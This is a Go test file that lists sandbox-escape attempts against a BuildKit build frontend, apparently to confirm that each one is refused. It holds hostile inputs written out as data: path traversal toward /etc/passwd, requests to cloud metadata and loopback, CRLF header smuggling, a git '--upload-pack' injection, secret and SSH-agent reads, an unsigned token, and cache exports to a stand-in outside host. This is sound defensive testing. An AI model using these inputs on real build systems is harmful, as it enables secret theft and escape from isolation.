package main

import (
	"path"

	"github.com/moby/buildkit/client/llb"
	"github.com/moby/buildkit/frontend/gateway/client"
	"github.com/moby/buildkit/solver/pb"
	spb "github.com/moby/buildkit/sourcepolicy/pb"
)

type attempt func(*attacker) (string, error)

const (
	loopback = "attack tcp 127.0.0.1 $PORT"
	disk     = "attack device $DISK secret"
)

// What tests/e2e/escapes/gateway.py says of them stands there.
var attempts = map[string]attempt{
	"step-host-network": step(loopback, llb.Network(llb.NetModeHost)),
	"step-insecure":     step(disk, llb.Security(llb.SecurityModeInsecure)),
	"step-loopback":     step(loopback),
	"step-metadata":     step("attack tcp 169.254.169.254 80"),
	"step-outside":      step("attack tcp $OUTSIDE 80"),
	"step-secret": stepWith("cat /s", func(a *attacker) llb.RunOption {
		return llb.AddSecret("/s", llb.SecretID(a.known["MARK"]), llb.SecretOptional)
	}),
	"step-environment": step("cat /s", llb.AddSecret("/s", llb.SecretID("KTL_TEST_TOKEN"), llb.SecretOptional)),
	"step-agent":       step("attack unix /agent", llb.AddSSHSocket(llb.SSHSocketTarget("/agent"), llb.SSHOptional)),
	"step-cache-mount": stepWith("cat /c/secret", func(a *attacker) llb.RunOption {
		return llb.AddMount("/c", llb.Scratch(), llb.AsPersistentCacheDir("../../../../../../.."+place(a), llb.CacheMountShared))
	}),
	"step-selector": stepWith("cat /c/secret", func(a *attacker) llb.RunOption {
		return llb.AddMount("/c", llb.Scratch(), llb.SourcePath("../../../../../../../../../../.."+place(a)))
	}),
	"step-selector-link": stepWith("cat /c", func(a *attacker) llb.RunOption {
		return llb.AddMount("/c", a.links(), llb.SourcePath("/file"))
	}),

	"container-host-network": container(loopback, client.NewContainerRequest{NetMode: pb.NetMode_HOST}, 0),
	"container-insecure":     container(disk, client.NewContainerRequest{}, pb.SecurityMode_INSECURE),
	"container-loopback":     container(loopback, client.NewContainerRequest{}, 0),
	"container-metadata":     container("attack tcp 169.254.169.254 80", client.NewContainerRequest{}, 0),
	"container-outside":      container("attack tcp $OUTSIDE 80", client.NewContainerRequest{}, 0),
	"container-selector":     containerMount("cat /c/secret", client.Mount{Selector: "../../../../../../../.."}),
	"container-cache":        containerMount("cat /c/secret", client.Mount{MountType: pb.MountType_CACHE, CacheOpt: &pb.CacheOpt{ID: "../../../../.."}}),
	"container-secret":       containerMount("cat /c", client.Mount{MountType: pb.MountType_SECRET, SecretOpt: &pb.SecretOpt{ID: "KTL_TEST_TOKEN", Optional: true}}),
	"container-agent":        containerMount("attack unix /c", client.Mount{MountType: pb.MountType_SSH, SSHOpt: &pb.SSHOpt{ID: "default", Optional: true}}),

	"read-link":      readLinks("/file"),
	"read-folder":    readLinks("/folder/secret"),
	"read-parents":   readLinks("../../../../../../../../../../../$MARK"),
	"read-proc":      readLinks("/proc"),
	"list-link":      listLinks,
	"copy-link":      copyLinks(llb.CopyInfo{FollowSymlinks: true}),
	"copy-link-glob": copyLinks(llb.CopyInfo{FollowSymlinks: true, AllowWildcard: true, CopyDirContentsOnly: true}),
	"local-root":     local("/", "$MARK"),
	"local-place":    local("$PLACE_OF_MARK", "/secret"),
	"local-parents":  local("../../..", "$MARK"),
	"local-follow":   local("context", "$MARK", llb.FollowPaths([]string{"../../../../../../../../etc/passwd", "file", "folder/secret"})),
	"local-patterns": local("context", "/file", llb.IncludePatterns([]string{"../../**", "/**"})),
	"local-unfenced": local("dockerfile", "/folder/secret"),
	"layout-store": source(func(a *attacker) llb.State {
		return llb.OCILayout("x/y@"+zeros, llb.OCIStore("", "../../../../../../.."+place(a)))
	}),
	"nested-insecure": nested("insecure"),
}

// A refusal of these ends the whole build, so each has one of its own.
var questions = map[string]attempt{
	"http-metadata":   source(web("http://169.254.169.254/")),
	"http-loopback":   source(web("http://127.0.0.1:$PORT/")),
	"http-own":        source(web("http://$OWN:$PORT/")),
	"http-outside":    source(web("http://$OUTSIDE/")),
	"http-redirect":   source(web("http://$OUTSIDE:81/")),
	"http-header":     source(web("http://$OUTSIDE:82/", llb.Header(llb.HTTPHeader{Accept: "\r\nHost: 169.254.169.254"}))),
	"git-file":        source(func(a *attacker) llb.State { return llb.Git(a.fill("file://$PLACE_OF_MARK/repository.git"), "main") }),
	"git-option":      source(func(a *attacker) llb.State { return llb.Git(a.fill("--upload-pack=cat $MARK"), "main") }),
	"git-loopback":    source(func(a *attacker) llb.State { return llb.Git(a.fill("http://127.0.0.1:$PORT/x.git"), "main") }),
	"image-loopback":  source(func(a *attacker) llb.State { return llb.Image(a.fill("127.0.0.1:$PORT/decoy:1")) }),
	"image-metadata":  source(func(a *attacker) llb.State { return llb.Image("169.254.169.254:80/decoy:1") }),
	"pinned-file":     source(web("http://$OUTSIDE:84/stolen-file", llb.Checksum(zeros))),
	"config-loopback": configOf("127.0.0.1:$PORT/decoy:1"),
	"convert-policy":  convert("http://$OUTSIDE/"),
	"nested-context":  nestedContext("http://127.0.0.1:$PORT/"),
	"cache-registry":  cacheFrom("registry", map[string]string{"ref": "$OUTSIDE:84/stolen/registry:1", "registry.insecure": "true"}),
	"cache-actions":   cacheFrom("gha", map[string]string{"url": "http://$OUTSIDE:84/stolen-actions/", "token": token}),
	"cache-s3": cacheFrom("s3", map[string]string{"bucket": "stolen", "region": "us-east-1", "endpoint_url": "http://$OUTSIDE:84/",
		"use_path_style": "true", "access_key_id": "a", "secret_access_key": "b"}),
	"cache-azure": cacheFrom("azblob", map[string]string{"account_url": "http://$OUTSIDE:84/stolen-azure", "account_name": "a", "secret_access_key": "YQ=="}),
	"cache-local": cacheFrom("local", map[string]string{"src": "$PLACE_OF_MARK", "digest": zeros}),
}

const (
	zeros = "sha256:0000000000000000000000000000000000000000000000000000000000000000"
	// {"alg":"none"}.{"ac":"[{\"Scope\":\"a\",\"Permission\":3}]","nbf":0,"exp":4102444800}.
	token = "eyJhbGciOiJub25lIn0.eyJhYyI6Ilt7XCJTY29wZVwiOlwiYVwiLFwiUGVybWlzc2lvblwiOjN9XSIsIm5iZiI6MCwiZXhwIjo0MTAyNDQ0ODAwfQ."
)

func init() {
	for name, run := range questions {
		attempts[name] = run
	}
}

func place(a *attacker) string { return path.Dir(a.known["MARK"]) }

// convert lets a source policy of the frontend's own turn a pinned image into something else.
func convert(url string) attempt {
	return func(a *attacker) (string, error) {
		name := a.BuildOpts().Opts["source"]
		rule := &spb.Rule{Action: spb.PolicyAction_CONVERT,
			Selector: &spb.Selector{Identifier: "docker-image://*", MatchType: spb.MatchType_WILDCARD},
			Updates:  &spb.Update{Identifier: a.fill(url)}}
		return a.everything(llb.Image(name), client.SolveRequest{SourcePolicies: []*spb.Policy{{Version: 1, Rules: []*spb.Rule{rule}}}})
	}
}
